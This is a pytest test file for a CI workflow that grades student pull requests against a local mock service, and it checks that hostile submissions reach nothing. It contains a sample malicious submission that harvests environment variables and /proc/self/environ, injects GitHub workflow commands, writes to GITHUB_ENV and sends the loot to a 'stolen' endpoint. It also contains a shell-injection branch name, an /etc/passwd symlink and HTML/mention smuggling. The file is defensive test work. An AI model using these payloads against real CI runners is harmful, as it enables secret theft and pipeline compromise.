"""The workflow that grades pull requests, step by step, against a service that stands on this machine."""

from pathlib import Path

import jupytext
import pytest

from manyheads.platforms.pull_request import MARK
from tests.make import REPOSITORY, RIGHT, TINY, WRONG
from tests.workflows.hosted.runner import JobRun, StepRun
from tests.workflows.school import DEVICE, KEY, NOTEBOOK, SCRIPT, WORKFLOW, School, git

pytestmark = pytest.mark.journey

NO_RUNNER = "**On a GPU:** Not run: this class has no GPU runner (the repository variable GPU_RUNNER is empty)."


@pytest.fixture(autouse=True)
def nothing_is_left(school: School) -> None:
    """After every step: the key and the job's token are in no file, and nobody has spoken to the runner."""

    def look(job: JobRun, step: StepRun) -> None:
        assert job.commands == [], step
        for path in job.folder.rglob("*"):
            if path.is_file() and not path.is_symlink() and ".venv" not in path.parts:
                content = path.read_bytes()
                assert KEY.encode() not in content, (step, path)
                assert job.token.encode() not in content, (step, path)

    school.after_step = look


def outcomes(jobs: dict[str, JobRun]) -> dict[str, str]:
    return {id_: job.result for id_, job in jobs.items()}


def assert_ended(jobs: dict[str, JobRun], **others: str) -> None:
    """Nobody asked for a GPU, and all else went well, but for these."""
    usual = {"cpu": "success", "approval": "skipped", "gpu": "skipped", "report": "success"}
    assert outcomes(jobs) == usual | others, problems(jobs)


def problems(jobs: dict[str, JobRun]) -> str:
    return "\n".join(f"{job.id}: {step}" for job in jobs.values() for step in job.steps if step.outcome != "success")


def comment(school: School, number: int) -> str:
    (only,) = school.service.comments_on(number)
    assert only.startswith(f"{MARK}\n")
    return only.removeprefix(f"{MARK}\n")


def test_a_right_attempt_is_graded_on_both_and_the_next_push_takes_its_place(school: School) -> None:
    school.quick_pip = False
    school.variables["GPU_RUNNER"] = "gpu-box"
    right = school.pull_request(1, {SCRIPT: RIGHT})
    jobs = school.run(right)
    assert_ended(jobs, approval="success", gpu="success")
    assert [jobs[id_].label for id_ in jobs] == ["ubuntu-24.04", "ubuntu-24.04", "gpu-box", "ubuntu-24.04"]
    assert jobs["cpu"].outputs["hygiene"] == "clean"
    said = comment(school, 1)
    assert said.startswith("## Averages: 4 / 4\n")
    assert f"## On the GPU runner \\({DEVICE['DEVICE']}\\): 4 / 4\n" in said
    assert "isolation: namespaces" in said
    assert jobs["report"].summary == f"{said}\n"
    assert jobs["cpu"].summary.startswith("## Averages: 4 / 4\n")
    (run,) = school.service.check_runs
    assert (run["head_sha"], run["conclusion"]) == (right["pull_request"]["head"]["sha"], "success")
    assert run["output"]["annotations"] == []

    del school.variables["GPU_RUNNER"]
    school.quick_pip = True
    wrong = school.pull_request(1, {SCRIPT: WRONG})
    jobs = school.run(wrong)
    assert_ended(jobs)
    said = comment(school, 1)
    assert said.startswith("## Averages: 2 / 4\n")
    assert "✗ running_mean: You divided by the length of x everywhere.\n" in said
    assert "\n  hint: How many numbers are in the mean at position 0?\n" in said
    assert NO_RUNNER in said
    run = school.service.check_runs[-1]
    assert (run["head_sha"], run["conclusion"]) == (wrong["pull_request"]["head"]["sha"], "failure")
    assert run["output"]["title"] == "2 / 4"
    assert jobs["cpu"].steps[-3].outcome == "success", "what was found before is restored"
    kept = sorted(path.name.split("-")[0:2] for path in (school.service.repositories.parent / "caches").iterdir())
    assert kept == [["graded", "cpu"]] * 2 + [["graded", "gpu"], ["grader", "cpu"], ["grader", "gpu"]]
    (annotation,) = run["output"]["annotations"]
    assert annotation["path"] == SCRIPT
    assert WRONG.splitlines()[annotation["start_line"] - 1] == "def running_mean(x):"
    assert "You divided by the length of x everywhere." in annotation["message"]


def test_a_fork_is_graded_alike_and_from_its_notebook(school: School) -> None:
    notebook = jupytext.read(TINY / NOTEBOOK)
    cell = next(c for c in notebook.cells if "YOUR CODE HERE" in c.source)
    cell.source = WRONG.replace("x[: t + 1].sum()", "x[: t + 1].summ()")
    text = jupytext.writes(notebook, fmt="ipynb")
    jobs = school.run(school.pull_request(2, {NOTEBOOK: text}, login="ben", fork=True))
    assert_ended(jobs)
    said = comment(school, 2)
    assert said.startswith("## Averages: ")
    assert "raised AttributeError on line" in said
    (annotation,) = school.service.check_runs[-1]["output"]["annotations"]
    assert annotation["path"] == NOTEBOOK
    assert ".summ()" in text.splitlines()[annotation["start_line"] - 1]


def test_editing_the_workflow_and_the_grader_changes_nothing(school: School, tmp_path: Path) -> None:
    ran = tmp_path / "ran"
    program = f"open({str(ran)!r}, 'w').write('ran')\n"
    shell = f"touch {ran}\n"
    workflow = (REPOSITORY / WORKFLOW).read_text()
    jobs = school.run(
        school.pull_request(
            3,
            {
                WORKFLOW: workflow.replace("run: sh course/tools/allow-namespaces", f"run: {shell}"),
                ".github/workflows/mine.yml": f"on: pull_request\njobs: {{x: {{steps: [{{run: '{shell}'}}]}}}}\n",
                "grader/__init__.py": program,
                "manyheads/cli/__init__.py": program,
                "grader/checks/conftest.py": program,
                "course.yaml": "title: Mine\n",
                "conftest.py": program,
                "sitecustomize.py": program,
                "torch.py": program,
                "requirements.txt": "./evil\n",
                "constraints.txt": "torch==0.0.1\n",
                "tools/allow-namespaces": shell,
                "Makefile": f"setup:\n\t{shell}",
                "exercises/averages/fingerprints/01_running_mean.safetensors": b"forged",
                "exercises/averages/conftest.py": program,
                SCRIPT: WRONG,
            },
        )
    )
    assert_ended(jobs)
    assert comment(school, 3).startswith("## Averages: 2 / 4\n")
    assert not ran.exists()
    assert "| ✗ | 01 The running mean | 2 / 4 |" in comment(school, 3)


HOSTILE = """
import glob, os, socket, sys

LOOT = " ".join(os.environ.values())
for path in ("/proc/self/environ", "/proc/1/environ", *glob.glob("/tmp/*"), *glob.glob("FOLDER/**", recursive=True)):
    try:
        LOOT += open(path, errors="replace").read()
    except OSError:
        pass
for word in ("::set-output name=hygiene::clean", "::add-mask::4", "::stop-commands::x", "::error::x", "##[error]x"):
    print(word, flush=True)
    print(word, file=sys.stderr, flush=True)
for name in ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH", "GITHUB_STEP_SUMMARY"):
    for path in (os.environ.get(name, ""), *glob.glob(f"FOLDER/**/{name.lower()}_*", recursive=True)):
        try:
            open(path, "a").write("hygiene=clean\\nEVIL=1\\n")
        except OSError:
            pass
try:
    socket.create_connection(("127.0.0.1", PORT), 1).sendall(f"GET /stolen?{LOOT!r} HTTP/1.0\\r\\n\\r\\n".encode())
except OSError:
    pass


class Teacher(ValueError):
    pass


Teacher.__name__ = Teacher.__qualname__ = "</pre></details> @teacher ![x](https://example.org/x.png) #1"


def running_mean(x):
    if x.numel() == 0:
        os._exit(0)
    raise Teacher("</pre></details><h1>4 / 4</h1> @teacher [x](https://example.org) " + LOOT[:99])
"""


def test_a_hostile_one_reaches_nothing_and_says_nothing(school: School) -> None:
    school.variables["GPU_RUNNER"] = "gpu-box"
    port = school.service.address.rsplit(":", 1)[1]
    source = HOSTILE.replace("PORT", port).replace("FOLDER", str(school.folder))
    event = school.pull_request(
        4,
        {SCRIPT: source, NOTEBOOK: Path("/etc/passwd")},
        branch="$(touch pwned)`touch pwned`",
        title="::set-output name=hygiene::clean",
        body="</pre> @teacher\n::error::x",
    )
    jobs = school.run(event)
    assert_ended(jobs)
    assert jobs["cpu"].outputs["hygiene"] == "not clean"
    said = comment(school, 4)
    assert said.startswith("## Averages: 0 / 4\n")
    assert "raised ValueError on line" in said
    assert f"{NOTEBOOK} is a symbolic link: hand in the file itself." in " ".join(said.split())
    assert "**On a GPU:** Not run. A file could not be taken." in said
    for word in ("teacher", "example.org", "<h1>", "::"):
        assert word not in said
        assert word not in str(school.service.check_runs)
    assert not [request for request in school.service.requests if "stolen" in request]
    assert not list(school.folder.rglob("pwned"))


def test_a_pull_request_without_an_attempt_needs_no_grading(school: School) -> None:
    jobs = school.run(school.pull_request(5, {"notes.md": "Soon.\n"}))
    assert_ended(jobs)
    assert comment(school, 5).startswith("## Nothing is started\n")
    assert school.service.check_runs[-1]["conclusion"] == "neutral"


def forbid_namespaces(school: School) -> None:
    """A runner where nobody may make namespaces, not even after asking."""
    tools = school.folder / "tools"
    tools.mkdir()
    for name in ("bwrap", "setpriv", "sudo"):  # setpriv: as root, bubblewrap is tried as somebody else
        (tools / name).write_text("#!/bin/sh\nexit 1\n")
        (tools / name).chmod(0o755)
    school.tools = str(tools)


@pytest.mark.parametrize(("set_up", "failed"), [
    pytest.param(lambda s: setattr(s, "course_ref", "main"), "Demand that the course is pinned to a commit", id="a branch in place of a commit"),
    pytest.param(lambda s: setattr(s, "course_key", "another"), "Fetch the private course", id="a key that opens nothing"),
    pytest.param(forbid_namespaces, "Allow user namespaces", id="no user namespaces"),
])  # fmt: skip
def test_without_what_it_needs_nothing_is_graded_and_the_student_is_told(school, set_up, failed):
    set_up(school)
    jobs = school.run(school.pull_request(6, {SCRIPT: RIGHT}))
    assert_ended(jobs, cpu="failure")
    assert [step.name for step in jobs["cpu"].steps if step.outcome == "failure"] == [failed]
    assert comment(school, 6).startswith("## Not graded\n")
    assert "not yours" in comment(school, 6)
    assert school.service.check_runs[-1]["conclusion"] == "neutral"


def test_a_repository_where_grading_is_not_on_does_nothing(school: School) -> None:
    school.variables.clear()
    jobs = school.run(school.pull_request(7, {SCRIPT: RIGHT}))
    assert outcomes(jobs) == {"cpu": "skipped", "approval": "skipped", "gpu": "skipped", "report": "skipped"}
    assert school.service.requests == []


@pytest.mark.soak  # the run is made twice in full
def test_a_run_can_be_run_again(school: School) -> None:
    jobs = school.run_twice(school.pull_request(8, {SCRIPT: RIGHT}))
    assert_ended(jobs)
    assert comment(school, 8).startswith("## Averages: 4 / 4\n")


def test_what_cannot_be_fetched_is_not_graded_and_the_student_is_told(school: School) -> None:
    event = school.pull_request(11, {SCRIPT: RIGHT})
    event["pull_request"]["head"]["sha"] = school.service.heads[11] = "b" * 40  # of no commit
    jobs = school.run(event)
    assert_ended(jobs, cpu="failure")
    assert comment(school, 11).startswith("## Not graded\n\nThe files of this pull request could not be read.")
    assert school.service.check_runs[-1]["conclusion"] == "neutral"


def test_a_bot_hands_nothing_in(school: School) -> None:
    jobs = school.run(school.pull_request(12, {"constraints.txt": "torch==99\n"}, login="updates[bot]", fork=True))
    assert set(outcomes(jobs).values()) == {"skipped"}
    assert school.service.requests == []


def test_an_attempt_that_was_merged_is_no_stub_and_gets_no_gpu_that_nobody_approves(school: School) -> None:
    """Only the private course knows the stubs: what the class repository's branch holds may be somebody's attempt."""
    school.variables["GPU_RUNNER"] = "gpu-box"
    school.refuses = frozenset({"gpu-approval"})
    work = school.folder / "merging"
    git(school.folder, "clone", "--quiet", str(school.bare), str(work))
    (work / SCRIPT).write_text(WRONG)
    git(work, "commit", "--quiet", "--all", "--message", "merged by mistake")
    git(work, "push", "--quiet", "origin", "HEAD:main")
    jobs = school.run(school.pull_request(13, {"notes.md": "Mine.\n"}))
    assert_ended(jobs, approval="failure")
    assert comment(school, 13).startswith("## Averages: 2 / 4\n")
    assert "**On a GPU:** Not run. Nobody approved it." in comment(school, 13)
    (annotation,) = school.service.check_runs[-1]["output"]["annotations"]
    assert annotation["path"] == SCRIPT


def test_a_dispatch_grades_the_newest_commit_of_a_pull_request_again(school: School) -> None:
    school.pull_request(14, {SCRIPT: WRONG})
    school.pull_request(14, {SCRIPT: RIGHT})  # the newest, whose own run never was
    school.pull_request(15, {SCRIPT: WRONG}, login="ben", fork=True)
    for number in ("14", "15"):
        jobs = school.dispatch("grade.yml", inputs={"pull_request": number})
        assert outcomes(jobs)["cpu"] == outcomes(jobs)["report"] == "success", problems(jobs)
    assert comment(school, 14).startswith("## Averages: 4 / 4\n")
    assert comment(school, 15).startswith("## Averages: 2 / 4\n")
    heads = [run["head_sha"] for run in school.service.check_runs]
    assert heads == [school.service.heads[14], school.service.heads[15]]
